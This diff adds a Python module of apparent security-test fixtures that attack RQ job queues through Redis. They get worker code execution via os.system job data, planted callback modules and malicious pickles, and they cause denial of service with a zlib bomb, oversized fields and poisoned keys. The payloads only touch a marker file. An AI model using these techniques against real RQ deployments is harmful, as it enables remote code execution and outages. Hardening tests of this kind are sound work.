@@ -1,0 +1,193 @@
+"""What somebody with a worker's rights may write into RQ's keys to run code on those who read them."""
+
+from __future__ import annotations
+
+import json
+import pickle
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+#: A module in the folder where a worker starts, which RQ puts on its path: a stand-in for os.system, and not only that.
+SPY = """
+from pathlib import Path
+
+def touch(*_, **__):
+    Path(__file__).with_name("marker").touch()
+
+def fail():
+    raise ValueError("on purpose")
+"""
+#: Seats of runs that nobody leads: sat on and left at once. The second is what a worker must still take in the end.
+SEAT, AFTER = "es-ghost-abcdef-1", "es-after-abcdef-1"
+BOMB_BYTES = 200_000_000
+
+
+class Reduced:
+    """Unpickled, it touches the marker."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return Path.touch, (self.marker,)
+
+
+class Attacker:
+    """Writes where the rights of a worker reach."""
+
+    def __init__(self, client: Any, folder: Path) -> None:
+        self.client, self.folder = client, folder
+        self.marker = folder / "marker"
+        (folder / "spy.py").write_text(SPY)
+
+    def data(self, function: str, *arguments: object) -> bytes:
+        return zlib.compress(pickle.dumps((function, None, arguments, {})))
+
+    def pickled(self) -> bytes:
+        return pickle.dumps(Reduced(self.marker))
+
+    def write(self, name: str, **fields: Any) -> None:
+        """A job's hash, as RQ writes it but for ``fields``."""
+        usual = {"created_at": "2026-01-01T00:00:00.000000Z", "status": "queued", "origin": "default", "data": self.data("time.time"), "timeout": 30, "description": "x"}
+        self.client.hset(f"rq:job:{name}", mapping={**usual, **fields})
+        self.client.sadd("rq:queues", "rq:queue:default")
+
+    def enqueue(self, name: str | bytes = SEAT, **fields: Any) -> None:
+        if isinstance(name, str):
+            self.write(name, **fields)
+        self.client.rpush("rq:queue:default", name)
+
+
+Attack = Callable[[Attacker], None]
+
+
+def function(one: Attacker) -> None:
+    one.enqueue(data=one.data("os.system", f"touch {one.marker}"))
+
+
+def function_of_no_seat(one: Attacker) -> None:
+    one.enqueue("some-job", data=one.data("spy.touch"))
+
+
+def on_success(one: Attacker) -> None:
+    one.enqueue(success_callback_name="spy.touch")
+
+
+def on_failure(one: Attacker) -> None:
+    one.enqueue(data=one.data("spy.fail"), failure_callback_name="spy.touch")
+
+
+def pickle_in_data(one: Attacker) -> None:
+    one.enqueue(data=zlib.compress(one.pickled()))
+
+
+def pickle_in_meta(one: Attacker) -> None:
+    one.enqueue(meta=one.pickled())
+
+
+def pickle_in_result(one: Attacker) -> None:
+    one.enqueue(result=one.pickled())
+
+
+def pickle_in_hand(one: Attacker) -> None:
+    """Popped by a worker that has died since: those who clear up read it."""
+    one.write(SEAT, meta=one.pickled())
+    one.client.rpush("rq:queue:default:intermediate", SEAT)
+
+
+def abandoned(one: Attacker) -> None:
+    """Begun long ago: RQ's cleaners run the callback of its failure."""
+    one.write(SEAT, status="started", failure_callback_name="spy.touch")
+    one.client.zadd("rq:wip:default", {f"{SEAT}:0123": 1})
+
+
+def pickle_abandoned(one: Attacker) -> None:
+    one.write(SEAT, status="started", meta=one.pickled())
+    one.client.zadd("rq:wip:default", {f"{SEAT}:0123": 1})
+
+
+def dependent(one: Attacker) -> None:
+    """A job that waits for the seat, which a worker fetches and enqueues when the seat has ended."""
+    one.write("waiting", meta=one.pickled(), dependency_ids=json.dumps([SEAT]))
+    one.client.sadd(f"rq:job:{SEAT}:dependents", "waiting")
+    one.enqueue()
+
+
+def json_in_data(one: Attacker) -> None:
+    one.enqueue(data=zlib.compress(json.dumps(["os.system", None, [f"touch {one.marker}"], {}]).encode()))
+
+
+def pickle_in_results(one: Attacker) -> None:
+    one.client.xadd(f"rq:results:{SEAT}", {"type": 1, "created_at": 1, "return_value": one.pickled()})
+    one.enqueue()
+
+
+def bomb(one: Attacker) -> None:
+    packed = zlib.compress(b"\0" * BOMB_BYTES, 9)
+    one.enqueue(data=packed, exc_info=packed)
+
+
+def giant_fields(one: Attacker) -> None:
+    one.enqueue(**dict.fromkeys(("timeout", "status", "description", "meta", "origin", "data", "result_ttl", "worker_name"), b"7" * 12000000))
+
+
+def many_fields(one: Attacker) -> None:
+    one.enqueue()
+    for start in range(0, 400_000, 20_000):
+        one.client.hset(f"rq:job:{SEAT}", mapping={f"field-{number}": b"x" * 200 for number in range(start, start + 20_000)})
+
+
+def many_dependents(one: Attacker) -> None:
+    for start in range(0, 400_000, 20_000):
+        one.client.sadd(f"rq:job:{SEAT}:dependents", *(f"job-{number:0100d}" for number in range(start, start + 20_000)))
+    one.enqueue()
+
+
+def many_workers(one: Attacker) -> None:
+    for start in range(0, 400_000, 20_000):
+        one.client.sadd("rq:workers:default", *(f"rq:worker:{number:0100d}" for number in range(start, start + 20_000)))
+
+
+def nonsense(one: Attacker) -> None:
+    for number, text in enumerate((b"-1", b"1e999", b"\xff\xfe", "²".encode(), b"")):
+        fields = dict.fromkeys(("timeout", "ttl", "result_ttl", "failure_ttl", "status", "created_at", "started_at", "ended_at", "last_heartbeat", "enqueue_at_front"), text)
+        one.enqueue(f"es-ghost-abcdef-1{number}", **fields)
+
+
+def poisoned_queue(one: Attacker) -> None:
+    for name in (b"\xff\xfe", b"", b"a:b", b"es-../x-abcdef-1", b"x" * 10_000_000, b"rq:job:x", SEAT.encode() + b"\n"):
+        one.enqueue(name)
+
+
+def poisoned_registries(one: Attacker) -> None:
+    for key in ("rq:wip:default", "rq:failed:default", "rq:finished:default"):
+        one.client.zadd(key, {b"\xff\xfe": 1, b"": 1, b"a:b:c": 1, b"x" * 10_000_000: 1})
+    one.client.rpush("rq:queue:default:intermediate", b"\xff\xfe", b"x" * 10_000_000)
+    one.client.sadd("rq:workers:default", b"\xff\xfe", b"x" * 10_000_000)
+
+
+def wrong_types(one: Attacker) -> None:
+    one.client.set(f"rq:job:{SEAT}", "text")
+    one.client.rpush("rq:queue:default", SEAT)
+    one.client.set("rq:job:some-job", "text")
+    one.client.rpush("rq:queue:default", "some-job")
+    one.client.set(f"rq:executions:{AFTER}x", "text")
+
+
+def tricks(one: Attacker) -> None:
+    """Each would bring the job back for ever."""
+    one.enqueue(repeats_left=3, repeat_intervals="[0]", retries_left=3, retry_intervals="[0]", enqueue_at_front=1)
+
+
+#: Those that run the attacker's code on a plain worker as it is delivered.
+RUN: tuple[Attack, ...] = (
+    function, function_of_no_seat, on_success, on_failure, pickle_in_data, pickle_in_meta, pickle_in_result, pickle_in_hand, abandoned,
+    pickle_abandoned, dependent,
+)  # fmt: skip
+#: Others run it elsewhere, or harm a plain worker in other ways.
+HARM: tuple[Attack, ...] = (
+    json_in_data, pickle_in_results, bomb, giant_fields, many_fields, many_dependents, many_workers, nonsense, poisoned_queue,
+    poisoned_registries, wrong_types, tricks,
+)  # fmt: skip
